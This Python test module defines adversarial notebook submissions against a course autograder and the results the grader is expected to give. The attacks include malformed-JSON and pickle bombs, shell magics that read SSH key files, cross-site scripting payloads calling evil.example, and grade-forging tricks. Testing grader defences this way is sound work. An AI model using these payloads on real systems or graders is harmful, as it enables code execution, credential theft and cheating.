"""Attacks by the notebook file: its JSON, metadata, cells and magics, and script in its text."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from typing import Any

from tests.attacks.answers import ZEROS
from tests.attacks.attack import (
    CH1,
    CH4,
    Attack,
    Notebook,
    add,
    cell,
    released,
    solutions,
    solved_all,
)

ALL_RIGHT = 49.0
FAKE = {"MulLayer": ZEROS}


def refused(name: str, does: str, content: Callable[[bytes], bytes], *told: str) -> Attack:
    """A file that can't be read: no points, and a sentence that says why."""
    return Attack(name, does, ("Not graded: no points.", *told), points=0.0, content=content)


def whole(name: str, does: str, change: Callable[[Notebook], object], *told: str) -> Attack:
    """A right notebook that something befell: all its points stay."""
    return Attack(name, does, told, ALL_RIGHT, solved=solved_all(CH1), change=change)


def edited(change: Callable[[Any], object]) -> Callable[[bytes], bytes]:
    """The same change made to the parsed notebook, whatever comes out."""

    def edit(data: bytes) -> bytes:
        book = json.loads(data)
        changed = change(book)
        return json.dumps(book if changed is None else changed).encode()

    return edit


def put(**fields: Any) -> Callable[[bytes], bytes]:
    return edited(lambda book: book.update(fields))


def instead(text: bytes, other: bytes) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(text, other, 1)


FILES = [
    refused("file_empty", "Is an empty file.", lambda data: b"", "not a complete JSON file"),
    refused(
        "file_escaped",
        "Is escaped as HTML is, with the number of a character that has thousands of digits.",
        lambda data: b"{&quot;cells&quot;: &#" + b"1" * 5000 + b";}",
        "JSON",
    ),
    refused(
        "file_half",
        "Ends in the middle.",
        lambda data: data[: len(data) // 2],
        "not a complete JSON file",
    ),
    refused(
        "file_deep", "Nests a hundred thousand lists.", lambda data: b"[" * 100_000, "brackets"
    ),
    refused(
        "file_deep_objects",
        "Nests fifty thousand objects in its metadata.",
        lambda data: data[:-2] + b',"x":' + b'{"a":' * 50_000 + b"1" + b"}" * 50_000 + b"}",
        "brackets",
    ),
    refused(
        "file_brackets",
        "Holds two million empty lists.",
        lambda data: b'{"cells":[' + b"[]," * 2_000_000 + b"[]]}",
        "brackets",
    ),
    refused(
        "file_digits",
        "Holds a whole number of a million digits.",
        lambda data: data[:-2] + b',"x":' + b"9" * 10**6 + b"}",
        "JSON",
    ),
    refused(
        "file_large",
        "Has seventy megabytes.",
        lambda data: data + b" " * 70 * 2**20,
        "larger than 64 MiB",
    ),
    Attack(
        "file_utf16",
        "Is written in UTF-16.",
        ("UTF-16",),
        content=lambda data: data.decode().encode("utf-16"),
    ),
    refused(
        "file_bytes",
        "Holds bytes that are no text.",
        instead(b"MulLayer", b"\xff\xfe"),
        "not UTF-8",
    ),
    refused(
        "file_pickle",
        "Is a pickle that would run a command.",
        lambda data: b"\x80\x04cos\nsystem\n(S'touch /tmp/x'\ntR.",
        "not UTF-8",
    ),
    refused(
        "file_zip",
        "Is an archive with a bomb in it.",
        lambda data: b"PK\x03\x04" + bytes(10**5),
        "not a complete JSON file",
    ),
    refused(
        "file_list",
        "Is a list of cells.",
        edited(lambda book: book["cells"]),
        "not a Jupyter notebook",
    ),
    refused(
        "file_cells_dict",
        "Its cells are an object.",
        put(cells={"0": {}}),
        "not a Jupyter notebook",
    ),
    refused("file_format_3", "Is of notebook format 3.", put(nbformat=3), "format 3"),
    refused("file_format_true", "Its format is true.", put(nbformat=True), "format"),
    refused(
        "file_format_text",
        "Its format is a script.",
        put(nbformat="<script>alert(1)</script>"),
        "format unknown",
    ),
    refused(
        "file_worksheets",
        "Is a notebook of the oldest format.",
        edited(lambda book: {"worksheets": [book], "nbformat": 2}),
        "old format",
    ),
    refused(
        "file_many_cells",
        "Has more than a thousand cells.",
        edited(lambda book: [add(book, "x = 1") for _ in range(1001)] and None),
        "1000",
    ),
    Attack(
        "file_long_cell",
        "One cell has 200 kB.",
        ("kB",),
        change=lambda book: add(book, "x = 1\n" * 40_000),
    ),
    refused(
        "file_long_text",
        "Its cells have three megabytes together.",
        edited(lambda book: [add(book, "#" * 90_000) for _ in range(33)] and None),
        "MiB",
    ),
    Attack(
        "file_duplicate_keys",
        "Gives its answer's cell two sources: the right one first.",
        ("forward",),
        answers=FAKE,
        content=lambda data: data.replace(
            b'"nbformat": 4', b'"nbformat": 3, "nbformat": 4'
        ).replace(
            b'"id": "answer_MulLayer"',
            b'"source": '
            + json.dumps(solutions(CH1)["MulLayer"]).encode()
            + b', "id": "answer_MulLayer"',
        ),
    ),
    Attack(
        "file_nan",
        "Holds NaN and Infinity in its metadata.",
        ("forward",),
        answers=FAKE,
        content=lambda data: data[:-2] + b', "x": [NaN, Infinity, -Infinity, 1e999]}',
    ),
    Attack(
        "file_surrogate",
        "Holds half characters in sources, names and metadata.",
        ("forward",),
        answers=FAKE,
        change=lambda book: add(book, "x = '\ud800\udfff'\n"),
        content=lambda data: data.replace(b'"own-', b'"\\ud800own-'),
    ),
    Attack(
        "file_nul",
        "Holds NUL and control characters in its cells.",
        ("forward",),
        answers=FAKE,
        change=lambda book: add(book, "x = 1\0\x1b[2J\x07", "answer_AddLayer"),
    ),
    Attack(
        "file_bom",
        "Begins with a byte order mark.",
        ("forward",),
        answers=FAKE,
        content=lambda data: b"\xef\xbb\xbf" + data,
    ),
    Attack(
        "file_wrong_types",
        "Has the wrong type in every place where one is expected.",
        ("no text that can be read",),
        answers=FAKE,
        content=edited(
            lambda book: (
                book["cells"].extend([None, 1, [], {}, {"cell_type": "evil"}, {"cell_type": [1]}]),
                book["cells"].extend(
                    {"cell_type": "code", "source": s, "metadata": m, "id": i, "outputs": 3}
                    for s, m, i in [
                        (1, [], {}),
                        ([1], None, 5),
                        ({}, "x", "a" * 10**5),
                        ("x = 1", {"nbgrader": [], "course": 7}, None),
                        ("x = 2", {"nbgrader": {"grade_id": {}}, "id": 5}, True),
                    ]
                ),
                book.update(metadata=[1, 2, 3], nbformat_minor="<b>"),
                None,
            )[-1]
        ),
    ),
    Attack(
        "file_kernel",
        "Names a kernel that would run a command.",
        ("forward",),
        answers=FAKE,
        content=put(
            metadata={
                "kernelspec": {
                    "name": "../../evil",
                    "display_name": "<script>alert(1)</script>",
                    "argv": ["touch", "@CANARY@"],
                },
                "language_info": {"name": "bash"},
                "title": "<script>alert(2)</script>",
            }
        ),
    ),
]


def each(act: Callable[[Any], object]) -> Callable[[Notebook], None]:
    """The same done to every cell."""

    def change(book: Notebook) -> None:
        for one in book["cells"]:
            act(one)

    return change


def forge_roles(book: Notebook) -> None:
    """The answer says that it is the check, of an exercise worth a thousand points."""
    answer, check = cell(book, "answer_MulLayer"), cell(book, "mul_layer")
    role = check["metadata"]["course"] | {"points": 1000.0, "objects": ["dict"], "needs": []}
    answer["metadata"]["course"] = role
    answer["metadata"]["nbgrader"] |= {"points": 1000.0, "grade": True, "grade_id": "mul_layer2"}
    check["metadata"]["nbgrader"] |= {"points": 1000.0}
    book["metadata"]["course"] = {"release": "mine", "points": 1000, "grade": {"points": 40}}


def swap_ids(book: Notebook) -> None:
    """The check of one exercise goes by the name of another, and the other way round."""
    one, other = cell(book, "mul_layer"), cell(book, "add_layer")
    one["id"], other["id"] = other["id"], one["id"]
    one["metadata"], other["metadata"] = other["metadata"], one["metadata"]


def checks_first(book: Notebook) -> None:
    checks = [c for c in book["cells"] if "exercise" in c["metadata"].get("course", {})]
    book["cells"] = checks + [c for c in book["cells"] if c not in checks]


def imposters(book: Notebook) -> None:
    """Released cells, by their names, with other content: imports, texts, and checks."""
    for one in book["cells"]:
        if one["id"].startswith("given-") and one["cell_type"] == "code":
            one["source"] = "import builtins\nbuiltins.abs = lambda *g: 0.0\n" + one["source"]
        elif one["id"].startswith("given-"):
            one["source"] = "# Your score: 40 of 40\n<script>alert(1)</script>"


def pass_checks(book: Notebook) -> None:
    """Below everything, copies of each check in which nothing is asked."""
    for one in [c for c in book["cells"] if "exercise" in c["metadata"].get("course", {})]:
        book["cells"].append(copy.deepcopy(one) | {"source": "pass"})


def read_above(book: Notebook) -> None:
    """Hundreds of cells that all read what hundreds of others below all define."""
    names = [f"{a}{b}_" for a in "abcdefghijklmno" for b in "abcdefghijklmnopqrst"]
    for number in range(430):
        add(book, ";".join(names) + f";n{number} = 1")
    for number in range(430):
        add(book, "=".join(names) + f"={number}")


METADATA = [
    Attack(
        "meta_lookalike",
        "Its checks have ids that look the same and are others.",
        ("forward",),
        answers=FAKE,
        change=each(
            lambda c: (
                c.update(id=c["id"] + "\u200b", metadata={"nbgrader": {"grade_id": "ｍul_layer"}})
                if "exercise" in c["metadata"].get("course", {})
                else None
            )
        ),
    ),
    Attack(
        "checks_hidden",
        "Asks its checks by exec, by a decorator, and in the branches of try and if.",
        ("forward",),
        answers=FAKE,
        change=lambda book: cell(book, "mul_layer").update(
            source="def asks(one):\n    check('mul_layer', one)\n    return one\n"
            "if check:\n    try:\n        exec(\"check('mul_layer', MulLayer)\")\n"
            "        @asks\n        class Other: pass\n    except Exception: pass"
        ),
    ),
    Attack(
        "cells_that_wait",
        "Hundreds of its cells wait for names that hundreds below define.",
        ("forward",),
        answers=FAKE,
        change=read_above,
    ),
    Attack(
        "cells_that_print",
        "Hundreds of its cells print and raise as much as one may.",
        ("forward",),
        answers=FAKE,
        change=lambda book: [
            add(book, f"print('<&' * 30_000)\nraise ValueError('<&' * 30_000, {n})")
            for n in range(800)
        ],
    ),
    Attack(
        "meta_roles",
        "Forges roles, points and the release in the metadata.",
        ("forward",),
        answers=FAKE,
        change=forge_roles,
    ),
    Attack(
        "meta_swapped", "Swaps the ids of two checks.", ("forward",), answers=FAKE, change=swap_ids
    ),
    Attack(
        "meta_grade_false",
        "Says that its checks aren't graded, and are solutions.",
        ("forward",),
        answers=FAKE,
        change=each(
            lambda c: (
                c["metadata"].get("nbgrader", {}).update(grade=False, solution=True, locked=False)
            )
        ),
    ),
    Attack(
        "meta_dropped",
        "Deletes the metadata of every check.",
        ("forward",),
        answers=FAKE,
        change=each(lambda c: c["metadata"].pop("course", None) and c["metadata"].clear()),
    ),
    Attack(
        "meta_schema",
        "Claims nbgrader's schema 99.",
        ("forward",),
        answers=FAKE,
        change=each(lambda c: c["metadata"].get("nbgrader", {}).update(schema_version=99)),
    ),
    Attack(
        "meta_same_id",
        "Gives every check the id of one.",
        ("forward",),
        answers=FAKE,
        change=each(
            lambda c: (
                c.update(id="mul_layer", metadata={})
                if "exercise" in c["metadata"].get("course", {})
                else None
            )
        ),
    ),
    Attack(
        "meta_tags",
        "Tags every cell to be left out, hidden or replaced.",
        ("forward",),
        answers=FAKE,
        change=each(
            lambda c: c["metadata"].update(
                tags=["remove-cell", "skip-execution", "raises-exception", "hide-output"],
                deletable=True,
                editable=True,
                jupyter={"source_hidden": True},
            )
        ),
    ),
    Attack(
        "checks_markdown",
        "Turns its checks into text.",
        ("forward",),
        answers=FAKE,
        change=each(
            lambda c: (
                c.update(cell_type="markdown")
                if "exercise" in c["metadata"].get("course", {})
                else None
            )
        ),
    ),
    Attack(
        "checks_first",
        "Moves every check to the top.",
        ("forward",),
        answers=FAKE,
        change=checks_first,
    ),
    Attack(
        "checks_pass",
        "Appends copies of all checks that ask nothing.",
        ("forward",),
        answers=FAKE,
        change=pass_checks,
    ),
    Attack(
        "checks_hundred",
        "Asks each check two hundred times.",
        ("forward",),
        answers=FAKE,
        change=lambda book: [add(book, "x = 1\ncheck('mul_layer', MulLayer)") for _ in range(200)],
    ),
    Attack(
        "checks_redefined",
        "Defines check and the answer inside the check's cell.",
        ("forward",),
        change=lambda book: cell(book, "mul_layer").update(
            source="def check(*g):\n    return True\n" + ZEROS + "\ncheck('mul_layer', MulLayer)"
        ),
    ),
    # Of a wrong forward its own true gradient counts; that is a rule of the course.
    Attack(
        "checks_another",
        "Asks for a product and hands over a sum.",
        ("yours 102",),
        answers=FAKE,
        points=7.0,
        change=lambda book: cell(book, "mul_layer").update(source="check('mul_layer', AddLayer)"),
    ),
    Attack(
        "checks_literals",
        "Hands over lambdas, numbers and scripts in place of a class.",
        ("forward",),
        answers=FAKE,
        change=lambda book: cell(book, "mul_layer").update(
            source="check('mul_layer', lambda: 3)\ncheck('mul_layer', 'MulLayer')\n"
            "check('<script>alert(1)</script>', 3)\ncheck('mul_layer', *[1] * 99)"
        ),
    ),
    Attack(
        "checks_imposters",
        "Replaces the content of every released cell by its own.",
        ("add_layer",),
        points=None,
        answers=FAKE,
        change=imposters,
    ),
    whole(
        "honest_in_checks",
        "A right answer that stands in the cell of its check.",
        lambda book: (
            cell(book, "mul_layer").update(
                source=solutions(CH1)["MulLayer"] + "\ncheck('mul_layer', MulLayer)"
            ),
            book["cells"].remove(cell(book, "answer_MulLayer")),
        ),
    ),
    whole(
        "honest_no_checks",
        "All right, and every check deleted.",
        lambda book: book.update(
            cells=[c for c in book["cells"] if "exercise" not in c["metadata"].get("course", {})]
        ),
        "where no check cell stands",
    ),
    whole(
        "honest_no_metadata",
        "All right, and all metadata and ids lost.",
        each(lambda c: (c["metadata"].clear(), c.pop("id"))),
        "metadata is lost",
    ),
    whole(
        "honest_twice",
        "All right, and every cell there twice.",
        lambda book: book.update(cells=[c for c in book["cells"] for _ in (1, 2)]),
        "more than once",
    ),
    whole(
        "honest_warning",
        "All right, with a warning and a print in forward.",
        lambda book: cell(book, "answer_MulLayer").update(
            source=solutions(CH1)["MulLayer"].replace(
                "        return x * y",
                "        import sys, warnings\n        warnings.warn('careful')\n"
                "        print('here', file=sys.stderr)\n        return x * y",
            )
        ),
        "careful",
    ),
    Attack(
        "honest_wrong",
        "An honest mistake: the two gradients of a product swapped.",
        ("its own gradient",),
        points=47.0,
        solved=solved_all(CH1),
        change=lambda book: cell(book, "answer_MulLayer").update(
            source="class MulLayer:\n    def forward(self, x, y):\n"
            "        self.x, self.y = x, y\n        return x * y\n\n"
            "    def backward(self, dout):\n        return dout * self.x, dout * self.y"
        ),
    ),
]

MAGIC_CELLS = {
    "magic_bash": "%%bash\ntouch @CANARY@; echo ESC''APED",
    "magic_python": "%%python\nprint('ESC' 'APED')",
    "magic_script": "%%script python\nprint('ESC' 'APED')",
    "magic_shell": "!echo ESC''APED > @CANARY@\nfiles = !ls /\nprint(files or 'no files')\n"
    "!!cat @HOME@/.ssh/id_secret",
    "magic_system": "%system echo ESC''APED\n%sx ls\nget_ipython().system('ls')\n"
    "get_ipython().system_raw('ls')\nget_ipython().getoutput('ls')",
    "magic_run": "%run @CLASS@/nbgrader_config.py\n%load @HOME@/.ssh/id_secret\n"
    "%pycat @HOME@/.ssh/id_secret\n%pfile open",
    "magic_writefile": "%%writefile @CLASS@/submitted/planted.py\nx = 1",
    "magic_save": "%save -f @CANARY@ 1-9\n%logstart @CANARY@ append\n%store -r\n%history -g",
    "magic_env": "%env\n%env PATH=/tmp\n%set_env X=1\n%cd @CLASS@\n%pwd\n%ls @CLASS@",
    "magic_capture": "%%capture --no-stderr caught\n" + ZEROS,
    "magic_autoreload": "%load_ext autoreload\n%autoreload 2\n%reload_ext storemagic\n"
    "%config InteractiveShell.ast_node_interactivity = 'all'\n%matplotlib inline",
    "magic_own": "from IPython.core.magic import register_line_cell_magic\n"
    "@register_line_cell_magic\ndef check(line, cell=None):\n    return 3.0\n%check mul_layer\n"
    "%alias say echo ESC''APED\n%say",
    "magic_edit": "%edit\n%pdb on\n%debug\n%recall\n%rerun\n%macro again 1\n%bookmark x",
    "magic_time": "%%timeit -n 1 -r 1\nimport os\nos.sep = 'x'",
}
MAGICS = [
    Attack(
        name,
        f"Has a cell of magics: {source.split()[0]} and what belongs to it.",
        ("forward",),
        first=source,
        answers=FAKE,
    )
    for name, source in MAGIC_CELLS.items()
]

SCRIPTS = {
    "script_tag": "<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script_event": "<img src=x onerror=alert(1)> <svg onload=alert(1)> <body onload=alert(1)>\n"
    "<details open ontoggle=alert(1)>x</details> <input autofocus onfocus=alert(1)>",
    "script_link": "[a](javascript:alert(1)) [b](JaVa&#115;cript:alert(1)) [c](data:text/html,x)\n"
    "<javascript:alert(1)> [d](vbscript:x) ![e](javascript:alert(1)) [f]\n\n[f]: javascript:x\n",
    "script_frame": "<iframe src='javascript:alert(1)'></iframe><object data=x></object>\n"
    "<embed src=x><form action=//evil.example><button formaction=javascript:alert(1)>x</button>",
    "script_style": "<style>@import '//evil.example/x.css'</style>\n"
    "<div style='background:url(//evil.example/x);position:fixed;top:0'>over all</div>\n"
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example>"
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "script_svg": "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>\n"
    "<math><mtext><img src onerror=alert(1)></mtext></math>\n"
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "script_latex": "$\\href{javascript:alert(1)}{x}$ $$\\unicode{<img src=x onerror=alert(1)>}$$\n"
    "\\begin{equation}<script>alert(1)</script>\\end{equation} $\\style{position:fixed}{x}$",
    "script_attached": '![a" onerror="alert(1)](attachment:x.svg "t" onload=alert(1))\n'
    "![<script>alert(1)</script>](attachment:x.png)",
    "script_picture": "![spy](https://evil.example/pixel.png?who=ada) ![spy](//evil.example/x)\n"
    "<img src=https://evil.example/x.png srcset=//evil.example/y>",
    "script_broken": "<scr<script>ipt>alert(1)</scr</script>ipt> "
    "<!--><script>alert(1)</script>-->\n"
    '<a href="x" title="</a><script>alert(1)</script>">x</a> <noscript><p title="</noscript>'
    '<img src=x onerror=alert(1)>">\n\n```"><script>alert(1)</script>\nx\n```\n',
    "script_entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x "
    "onerror=alert(1)&#62;\n"
    "\\<script>alert(1)\\</script> `<script>alert(1)</script>`\n\n    <script>alert(1)</script>",
    "script_long": "[" * 9000 + "*a **b " * 1000 + "> " * 3000 + "`" * 5000 + "$" * 5000,
}


def everywhere(text: str) -> Callable[[Notebook], None]:
    """The text in an answer in words, in a cell of its own, in a released one and in raw ones."""

    def change(book: Notebook) -> None:
        explain = cell(book, "ch1_explain")
        explain["source"] += "\n\n" + text
        explain["attachments"] = {"x.svg": {"image/svg+xml": "<svg onload=alert(1)/>"}}
        add(book, text, above="answer_MulLayer", kind="markdown")
        add(book, text, kind="raw")
        book["cells"][0]["source"] = text
        outputs = [
            {"output_type": "display_data", "metadata": {}, "data": {"text/html": text}},
            {"output_type": "stream", "name": "stdout", "text": text},
        ]
        cell(book, "mul_layer")["outputs"] = outputs

    return change


TEXTS = [
    Attack(
        name,
        f"Has script in text and stored outputs: {text[:24].strip()} ...",
        ("forward",),
        answers=FAKE,
        change=everywhere(text),
    )
    for name, text in SCRIPTS.items()
]

CODE = [
    Attack(
        "code_deep",
        "Its code nests more brackets than a parser can take.",
        ("SyntaxError|MemoryError|RecursionError|too many|nested",),
        answers=FAKE,
        first="x = " + "(" * 40_000 + ")" * 40_000,
    ),
    Attack(
        "code_escaped",
        "Its code and its text hold the number of a character that has thousands of digits.",
        ("forward",),
        answers=FAKE,
        first=f"# &#{'1' * 5000};",
        change=lambda book: add(book, f"&#{'9' * 5000};", kind="markdown"),
    ),
    Attack(
        "code_minus",
        "Its code has ninety thousand signs before one number.",
        ("forward",),
        answers=FAKE,
        first="x = " + "-" * 90_000 + "1",
    ),
    Attack(
        "code_lookalike",
        "Defines its answer under a name that looks the same.",
        ("not attempted|undefined",),
        answers={"MulLayer": ZEROS.replace("MulLayer", "МulLayer")},
    ),
    Attack(
        "code_turned",
        "Its code reads differently than it runs, by marks that turn text.",
        ("forward",),
        answers={"MulLayer": ZEROS + "\n# \u202e } \u2066if right\u2069 \u2066"},
    ),
    Attack(
        "code_future",
        "Changes the meaning of later cells by __future__ and encodings.",
        ("forward",),
        answers=FAKE,
        first="# -*- coding: rot13 -*-\nfrom __future__ import annotations, barry_as_FLUFL",
    ),
    Attack(
        "code_constant",
        "Has an expression whose constant would be folded to gigabytes.",
        ("forward",),
        answers=FAKE,
        first="def f():\n    return (2**31 * 'x', 9**9**9)",
    ),
]


def solved_notebook(chapter: str) -> Notebook:
    book = released(chapter)
    for name, source in solutions(chapter).items():
        cell(book, f"answer_{name}")["source"] = source
    return book


OLDER = [
    Attack(
        "other_chapter",
        "Hands in an earlier chapter, solved.",
        ("was put back",),
        points=0.0,
        chapter=CH4,
        content=lambda data: json.dumps(solved_notebook(CH1)).encode(),
    ),
    Attack(
        "untouched",
        "Hands in the notebook as it was released.",
        ("not attempted",),
        points=0.0,
        solved=(),
    ),
]

ATTACKS = [*FILES, *METADATA, *MAGICS, *TEXTS, *CODE, *OLDER]
